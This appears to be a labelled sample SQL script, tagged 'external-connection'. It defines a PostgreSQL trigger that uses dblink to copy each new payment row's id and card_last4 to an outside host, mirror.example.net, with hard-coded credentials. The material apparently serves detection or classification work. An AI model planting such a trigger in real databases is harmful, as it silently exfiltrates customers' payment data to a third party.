-- class: external-connection
-- A trigger that sends every new payment's card data to an outside database with dblink, every time the application inserts one.
CREATE EXTENSION IF NOT EXISTS "dblink" SCHEMA public;

CREATE FUNCTION payments_mirror() RETURNS trigger LANGUAGE plpgsql AS $$
BEGIN
  PERFORM public.dblink_connect_u('mirror', 'host=mirror.example.net dbname=m user=m password=m');
  PERFORM public.dblink_exec('mirror', format('INSERT INTO p VALUES (%L, %L)', NEW.id, NEW.card_last4));
  PERFORM public.dblink_disconnect('mirror');
  RETURN NEW;
END
$$;
CREATE TRIGGER payments_mirror AFTER INSERT ON payments FOR EACH ROW EXECUTE FUNCTION payments_mirror();
